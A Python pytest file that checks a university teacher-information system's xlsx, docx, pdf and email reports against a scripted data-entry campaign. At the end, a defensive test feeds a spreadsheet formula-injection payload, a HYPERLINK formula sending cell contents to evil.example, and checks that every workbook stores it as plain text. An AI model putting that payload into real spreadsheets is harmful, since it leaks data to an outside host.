"""The seed's forms from a scripted campaign: every xlsx opened with openpyxl, every docx with python-docx.

Department 新闻传播学院 has 30 teachers: 27 submit, 20 of them are reviewed; 3 never
enter anything. 音乐学院 has 5 teachers who finish everything. Figures are checked
against hand-counted numbers and against the database itself.
"""

from __future__ import annotations

import email
import email.policy
import os
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pendulum
import pytest
from docx import Document
from sqlalchemy import text

from cuiban.models.outbox_store import attachments
from cuiban.notifications.render import Renderer
from cuiban.notifications.transports import FileTransport
from cuiban.planfile.loader import load_plan
from cuiban.schedules.tick import run_tick
from cuiban.services.dispatch import dispatch
from cuiban.services.report_files import send_monthly, write_reports
from cuiban.services.roster_import import import_roster
from cuiban.services.status_sync import sync_statuses
from tests.conftest import SHIPPED_PLAN
from tests.factories import ROSTER_HEADER, teacher_row, write_csv

IMPORTED = pendulum.datetime(2016, 12, 2, 10, tz="Asia/Shanghai")
ENTERED = pendulum.datetime(2016, 12, 12, 17, tz="Asia/Shanghai")
REVIEWED = pendulum.datetime(2016, 12, 14, 17, tz="Asia/Shanghai")
NOW = pendulum.datetime(2016, 12, 19, 10, tz="Asia/Shanghai")
EXPORT_HEADER = ["工号", "姓名", "填报状态"]
EXTRA_HEADERS = {
    "education": "学历",
    "degree": "学位",
    "title": "职称",
    "phone": "联系电话",
    "id_card": "身份证号",
}
NEWS, MUSIC = range(1, 31), range(31, 36)


def id_card(number: int) -> str:
    """A synthetic ID-card number with a valid GB 11643 check digit."""
    body = f"1301021980{number % 12 + 1:02d}{number % 28 + 1:02d}{number:03d}"
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body + "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


def phone(number: int) -> str:
    return f"1390000{number:04d}"


def plan_text(maps_personal: bool) -> str:
    """The shipped plan mapping 学历/学位/职称 (and, when asked, phone and ID card), with office phones."""
    text_ = SHIPPED_PLAN.read_text(encoding="utf-8")
    wanted = ["education", "degree", "title"] + (["phone", "id_card"] if maps_personal else [])
    mapping = "".join(f"    {field}: {EXTRA_HEADERS[field]}\n" for field in wanted)
    text_ = text_.replace("    email: 电子邮箱\n", "    email: 电子邮箱\n" + mapping)
    text_ = text_.replace(
        "c_news:       {name: 王晓燕, email: c.news@hebcm.example, unit: news}",
        "c_news:       {name: 王晓燕, email: c.news@hebcm.example, unit: news, "
        'office_phone: "0311-80000001"}',
    )
    text_ = text_.replace(
        'office_phone: "0311-80000000"',
        'office_phone: "0311-80000002"',
    )
    return text_


def name_of(number: int) -> str:
    return teacher_row(number, "x")[ROSTER_HEADER.index("姓名")]


@pytest.fixture(params=[False, True], ids=["plain", "maps-phone-and-id"])
def campaign(request, engine, tmp_path: Path):
    """The scripted campaign on the shipped plan: import, enter, review."""
    plan_file = tmp_path / "plan.yaml"
    plan_file.write_text(plan_text(request.param), encoding="utf-8")
    plan, calendar = load_plan(plan_file)
    assert plan is not None
    header = ROSTER_HEADER + list(EXTRA_HEADERS.values())
    rows = [
        teacher_row(n, "新闻传播学院" if n in NEWS else "音乐学院")
        + ["硕士研究生", "硕士", "讲师", phone(n), id_card(n)]
        for n in [*NEWS, *MUSIC]
    ]
    import_roster(engine, plan, calendar, write_csv(tmp_path / "roster.csv", header, rows), IMPORTED)
    entered = {f"{n:06d}": "已提交" for n in [*range(1, 28), *MUSIC]}
    sync_statuses(
        engine, plan, calendar, write_csv(tmp_path / "s1.csv", EXPORT_HEADER, _rows(entered)), ENTERED
    )
    reviewed = {f"{n:06d}": "已审核" for n in [*range(1, 21), *MUSIC]}
    sync_statuses(
        engine, plan, calendar, write_csv(tmp_path / "s2.csv", EXPORT_HEADER, _rows(reviewed)), REVIEWED
    )
    return engine, plan, request.param


def _rows(statuses: dict[str, str]) -> list[list[str]]:
    return [[sid, "某", status] for sid, status in statuses.items()]


def _db_count(engine, unit: str, states: tuple[str, ...]) -> int:
    marks = ", ".join(f"'{s}'" for s in states)
    with engine.connect() as connection:
        return connection.execute(
            text(f"SELECT count(*) FROM teacher WHERE unit_id = :u AND state IN ({marks})"), {"u": unit}
        ).scalar_one()


def xlsx_text(path: Path) -> str:
    book = openpyxl.load_workbook(path)
    return "\n".join(
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    )


def docx_text(path: Path) -> str:
    document = Document(str(path))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def test_dept_audit_figures_match_the_database(campaign, tmp_path: Path) -> None:
    engine, plan, _ = campaign
    (book_path,) = write_reports(engine, plan, "dept-audit", "xlsx", NOW, tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(book_path)
    summary = book["汇总"]
    assert [c.value for c in summary[1]][:9] == [
        "部门名称",
        "审核人",
        "联系电话",
        "本部门教职工数",
        "完成数",
        "未完成数",
        "审核完成数",
        "审核未完成数",
        "上报日期",
    ]
    assert summary.freeze_panes == "A2" and summary["A1"].font.b
    by_unit = {row[0].value: [c.value for c in row] for row in summary.iter_rows(min_row=2)}
    assert by_unit["新闻传播学院"] == [
        "新闻传播学院",
        "王晓燕",
        "0311-80000001",
        30,
        27,
        3,
        20,
        10,
        "2016-12-19",
    ]
    assert by_unit["音乐学院"][3:8] == [5, 5, 0, 5, 0]
    entered = ("submitted", "reviewed", "confirmed", "reported", "correction_requested")
    assert by_unit["新闻传播学院"][4] == _db_count(engine, "news", entered)
    assert by_unit["新闻传播学院"][6] == _db_count(engine, "news", entered[1:])
    missing = [name_of(n) for n in (28, 29, 30)]
    news_sheet = xlsx_text(book_path).split("新闻传播学院", 1)[1]
    assert "、".join(missing) in news_sheet

    (word,) = write_reports(engine, plan, "dept-audit", "docx", NOW, tmp_path / "a.docx", unit="新闻传播学院")
    content = docx_text(word)
    assert "部门名称：新闻传播学院" in content and "审核人：王晓燕" in content
    assert "本部门教职工数：30" in content and "完成数：27　　未完成数：3" in content
    assert "未完成教职工姓名：" + "、".join(missing) in content
    assert "完成数：20　　未完成数：10" in content
    assert "未审核教职工姓名：" + "、".join(name_of(n) for n in range(21, 31)) in content


def test_each_department_gets_its_own_file(campaign, tmp_path: Path) -> None:
    engine, plan, _ = campaign
    written = write_reports(engine, plan, "dept-audit", "docx", NOW, tmp_path / "each", each=True)
    assert len(written) == len(plan.departments())
    assert all(p.parent == tmp_path / "each" and p.suffix == ".docx" for p in written)
    music = next(p for p in written if "音乐学院" in p.name)
    assert "本部门教职工数：5" in docx_text(music) and "未完成教职工姓名：无" in docx_text(music)


def test_monthly_report_dates_each_stage_when_its_last_teacher_got_there(campaign, tmp_path: Path) -> None:
    engine, plan, _ = campaign
    (book_path,) = write_reports(engine, plan, "monthly", "xlsx", NOW, tmp_path / "m.xlsx")
    sheet = openpyxl.load_workbook(book_path)["附表4"]
    rows = {row[0].value: [c.value for c in row] for row in sheet.iter_rows() if row[0].value}
    assert rows["学校名称"][1:4] == ["河北传媒学院", "年月", "2016年12月"]
    assert rows["填表人"][1:4] == ["程兴", "电话", "0311-80000002"]
    assert rows["教师信息录入完成情况"][1:] == [35, 32, 3, "未完成"]
    assert rows["教师信息审核完成情况"][1:] == [35, 25, 10, "未完成"]
    assert len(sheet._images) == 1  # the progress chart

    # The three late teachers enter on 12-16, then everyone is reviewed on 12-20.
    _, plan_, _ = campaign
    folder = tmp_path / "late"
    folder.mkdir()
    calendar = load_plan(SHIPPED_PLAN)[1]
    late = {f"{n:06d}": "已提交" for n in (28, 29, 30)}
    sync_statuses(
        engine,
        plan_,
        calendar,
        write_csv(folder / "s3.csv", EXPORT_HEADER, _rows(late)),
        pendulum.datetime(2016, 12, 16, 11, tz="Asia/Shanghai"),
    )
    everyone = {f"{n:06d}": "已审核" for n in [*NEWS, *MUSIC]}
    sync_statuses(
        engine,
        plan_,
        calendar,
        write_csv(folder / "s4.csv", EXPORT_HEADER, _rows(everyone)),
        pendulum.datetime(2016, 12, 20, 23, 30, tz="Asia/Shanghai"),
    )
    later = pendulum.datetime(2016, 12, 21, 9, tz="Asia/Shanghai")
    (word,) = write_reports(engine, plan_, "monthly", "docx", later, tmp_path / "m.docx")
    content = docx_text(word)
    assert "录入教师数：35（已录入 35，未录入 0）" in content
    assert "全部录入完成日期：2016-12-16" in content
    assert "全部审核完成日期：2016-12-20" in content  # 23:30 local is still the 20th
    assert len(Document(str(word)).inline_shapes) == 1


def test_teacher_sheets_a_page_per_teacher_and_personal_numbers_only_there(campaign, tmp_path: Path) -> None:
    engine, plan, maps_personal = campaign
    (word,) = write_reports(engine, plan, "teacher-sheet", "docx", NOW, tmp_path / "t.docx", unit="news")
    document = Document(str(word))
    titles = [p for p in document.paragraphs if p.text == "附表5"]
    assert len(titles) == 30 and all(p.paragraph_format.page_break_before for p in titles)
    content = docx_text(word)
    assert content.count("信息修改") == 30 and content.count("签字：") == 30
    assert "硕士研究生" in content and "讲师" in content
    assert (phone(1) in content) is maps_personal
    assert phone(31) not in content  # 音乐学院's teachers are not in 新闻传播学院's document
    assert not any(id_card(n) in content for n in [*NEWS, *MUSIC])  # the form has no ID-card field

    everything = []
    for name, kwargs in (("dept-audit", {}), ("monthly", {}), ("working-group", {})):
        for fmt in ("xlsx", "docx", "html"):
            (path,) = write_reports(engine, plan, name, fmt, NOW, tmp_path / f"{name}.{fmt}", **kwargs)
            everything.append(
                xlsx_text(path)
                if fmt == "xlsx"
                else docx_text(path)
                if fmt == "docx"
                else path.read_text("utf-8")
            )
    (sheets,) = write_reports(engine, plan, "teacher-sheet", "xlsx", NOW, tmp_path / "t.xlsx", unit="news")
    assert len(openpyxl.load_workbook(sheets).worksheets) == 30
    for content in everything:
        assert not any(phone(n) in content or id_card(n) in content for n in [*NEWS, *MUSIC])


def test_teacher_sheet_pdf_has_30_pages(campaign, tmp_path: Path) -> None:
    if shutil.which("soffice") is None:
        if os.environ.get("CUIBAN_REQUIRE_PDF") == "1":
            pytest.fail("CUIBAN_REQUIRE_PDF=1 but LibreOffice (soffice) is not installed")
        pytest.skip("LibreOffice is not installed: bash .ci/converters.sh installs it (PDF output)")
    engine, plan, _ = campaign
    (pdf,) = write_reports(engine, plan, "teacher-sheet", "pdf", NOW, tmp_path / "t.pdf", unit="news")
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"^Pages:\s+30$", info, re.MULTILINE)
    words = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "教师信息审核表" in words and name_of(1) in words  # Chinese text came through


def test_monthly_send_queues_once_with_the_workbook_and_no_phone(campaign, tmp_path: Path) -> None:
    engine, plan, _ = campaign
    assert send_monthly(engine, plan, NOW) is True
    assert send_monthly(engine, plan, NOW.add(hours=3)) is False
    with engine.connect() as connection:
        (key,) = connection.execute(text("SELECT key FROM outbox WHERE kind = 'report'")).scalars()
        (workbook,) = attachments(connection, [key])[key]
    assert workbook["filename"] == "附表4_月报表_2016-12-19.xlsx"
    (tmp_path / "got.xlsx").write_bytes(workbook["content"])
    assert "2016年12月" in xlsx_text(tmp_path / "got.xlsx")
    report = dispatch(engine, FileTransport(tmp_path / "outbox"), NOW)
    assert report.sent == 1
    (eml,) = (tmp_path / "outbox").glob("*.eml")
    message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    assert message["To"].addresses[0].addr_spec == "renshichu@jyt.hebei.example"
    (attached,) = list(message.iter_attachments())
    assert attached.get_filename() == "附表4_月报表_2016-12-19.xlsx"
    (tmp_path / "mailed.xlsx").write_bytes(attached.get_content())
    mailed = xlsx_text(tmp_path / "mailed.xlsx")
    assert "程兴" in mailed and "0311-80000002" not in mailed  # emails carry no phone numbers
    assert "0311-80000002" not in message.get_body(("plain",)).get_content()


def test_the_digest_shows_the_progress_chart_inline(campaign, tmp_path: Path) -> None:
    engine, plan, _ = campaign
    calendar = load_plan(SHIPPED_PLAN)[1]
    run_tick(
        engine, plan, calendar, Renderer("zh"), pendulum.datetime(2016, 12, 15, 8, 45, tz="Asia/Shanghai")
    )
    report = dispatch(engine, FileTransport(tmp_path / "outbox"), NOW)
    assert report.sent > 0
    digests = [
        email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
        for p in (tmp_path / "outbox").glob("*-digest.eml")
    ]
    assert len(digests) == 1 + len(plan.roles.info_admins)  # the coordinator and the cc
    for message in digests:
        html = message.get_body(("html",))
        assert html.get_content_type() == "text/html"
        (image,) = [part for part in message.walk() if part.get_content_type() == "image/png"]
        assert image["Content-ID"] == "<progress-chart@cuiban>"
        assert 'src="cid:progress-chart@cuiban"' in html.get_content()
        assert image.get_content()[:8] == b"\x89PNG\r\n\x1a\n"
        assert not list(message.iter_attachments())  # inline, not a separate attachment


def _reminder_bodies(engine, task_key: str) -> list[str]:
    query = text("SELECT body_text FROM outbox WHERE task_key LIKE :k AND kind = 'reminder'")
    with engine.connect() as connection:
        return list(connection.execute(query, {"k": task_key}).scalars())


def test_reminders_say_where_their_form_is_never_a_command(engine) -> None:
    plan, calendar = load_plan(SHIPPED_PLAN)
    plan = plan.model_copy(update={"reminders": plan.reminders.model_copy(update={"combine": False})})
    # 12-01 is a Thursday: with `before: [2, 0]` the first reminder of 附表4 goes out on Tuesday 11-29.
    tick_at = pendulum.datetime(2016, 11, 29, 9, 30, tz="Asia/Shanghai")
    run_tick(engine, plan, calendar, Renderer("zh"), tick_at)
    (monthly,) = _reminder_bodies(engine, "monthly_report/tdc/2016-12-01")
    assert "附件为已填好的附表4（xlsx、docx 各一份），核对后可直接转发至河北省教育厅人事处" in monthly
    assert "2016-12-01" in monthly and "cuiban report" not in monthly
    # 附表6 is due on Monday 12-19: one working day before is Friday 12-16.
    run_tick(
        engine, plan, calendar, Renderer("zh"), pendulum.datetime(2016, 12, 16, 9, 30, tz="Asia/Shanghai")
    )
    (audit,) = _reminder_bodies(engine, "dept_audit_paper/news")
    assert "所需报表：附表6《数据审核报表》" in audit and "cuiban report" not in audit
    assert not any("所需报表" in body for body in _reminder_bodies(engine, "dept_filling/news"))


EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_names_from_the_roster_and_plan_stay_text_in_every_workbook(engine, tmp_path: Path) -> None:
    """Formula injection: a roster name (or a plan's) that looks like a formula is stored as a string
    cell with its exact text in 附表3–6, never as a formula the office's Excel would run."""
    plan_file = tmp_path / "plan.yaml"
    hostile = plan_text(False).replace("{name: 程兴,", "{name: '" + EVIL + "',")
    plan_file.write_text(hostile.replace("title: 组长}", "title: '@组长'}"), encoding="utf-8")
    plan, calendar = load_plan(plan_file)
    assert plan is not None
    header = ROSTER_HEADER + ["学历", "学位", "职称"]
    rows = [teacher_row(n, "新闻传播学院") + ["硕士研究生", "硕士", "-讲师"] for n in range(1, 5)]
    rows[0][ROSTER_HEADER.index("姓名")] = EVIL  # no one entered: first in the 附表6 list of names
    import_roster(engine, plan, calendar, write_csv(tmp_path / "roster.csv", header, rows), IMPORTED)

    books = {}
    for name, unit in (("teacher-sheet", "news"), ("dept-audit", None), ("working-group", None),
                       ("monthly", None)):
        (path,) = write_reports(engine, plan, name, "xlsx", NOW, tmp_path / f"{name}.xlsx", unit=unit)
        books[name] = openpyxl.load_workbook(path)
    texts = {}
    for name, book in books.items():
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
        looks = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
        assert all(c.data_type == "s" for c in looks), name
        texts[name] = [c.value for c in looks]
    assert EVIL in texts["teacher-sheet"] and "-讲师" in texts["teacher-sheet"]  # 附表5: name, 职称
    assert any(v.startswith(EVIL + "、") for v in texts["dept-audit"])  # 附表6: the names not entered
    assert EVIL in texts["working-group"] and "@组长" in texts["working-group"]  # 附表3
    assert EVIL in texts["monthly"]  # 附表4: the coordinator fills it in
